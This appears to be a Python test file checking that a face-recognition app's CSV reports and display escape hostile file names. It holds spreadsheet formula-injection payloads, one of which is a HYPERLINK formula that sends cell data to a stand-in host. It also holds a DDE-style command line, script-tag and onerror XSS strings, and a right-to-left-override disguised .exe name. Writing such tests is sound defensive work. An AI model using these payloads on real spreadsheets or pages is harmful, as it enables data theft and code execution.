"""File names made to do harm: shown as they are, never obeyed."""

from __future__ import annotations

import csv
import io

import pytest

from fer.app.common import plain
from fer.video import report
from tests.fakes import frame, prediction

FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"open").jpg',
    "+1+1.jpg",
    "-2+3+cmd|' /C calc'!A0.jpg",
    "@SUM(1+1).jpg",
    "\t=1+1.jpg",
    "\r=1+1.jpg",
    " =1+1.jpg",
    "%0A=1.jpg",
    "|calc.jpg",
]


@pytest.mark.parametrize("name", FORMULAS)
def test_a_name_like_a_formula_is_text_in_a_spreadsheet(name: str) -> None:
    table = report.faces_table([(name, frame(prediction())), ("plain.jpg", frame())])
    rows = list(csv.DictReader(io.StringIO(report.format_csv(table), newline="")))
    assert rows[0]["file"] == "'" + name.replace("\t", " ").replace("\r", " ")
    assert rows[1]["file"] == "plain.jpg"
    assert table["file"][0] == name  # the table itself is as it was


def test_names_with_separators_and_quotes_stay_in_their_cell() -> None:
    name = 'a",=1+1,"\nb;c.jpg'
    rows = list(
        csv.DictReader(
            io.StringIO(report.format_csv(report.faces_table([(name, frame())])), newline="")
        )
    )
    assert [row["file"] for row in rows] == [name.replace("\n", " ")]


def test_numbers_stay_numbers() -> None:
    table = report.faces_table([("a.jpg", frame(prediction((0, 0, 5, 5))))])
    assert "'" not in report.format_csv(table)


@pytest.mark.parametrize(
    "name",
    [
        "<img src=x onerror=alert(1)>.jpg",
        "**bold** _it_ `code` [link](http://evil.example) ![i](http://evil.example/x.png).jpg",
        ":red[x] :material/home: $x$ ~~y~~ # title.jpg",
        "</div><script>alert(1)</script>.jpg",
    ],
)
def test_markup_in_a_name_is_shown_as_it_is(name: str) -> None:
    shown = plain(name)
    special = set("<>*_`[]()!:$~#&\\|")
    for place, letter in enumerate(shown):
        if letter in special and letter != "\\":
            assert shown[place - 1] == "\\", shown
    assert shown.replace("\\", "") == name


def test_control_characters_in_a_name_are_not_shown() -> None:
    shown = plain("a\x00\x1b[31m\r\n\n# b\u202egpj.exe\u2066\x9d")
    assert shown.isprintable()
    assert "\u202e" not in shown
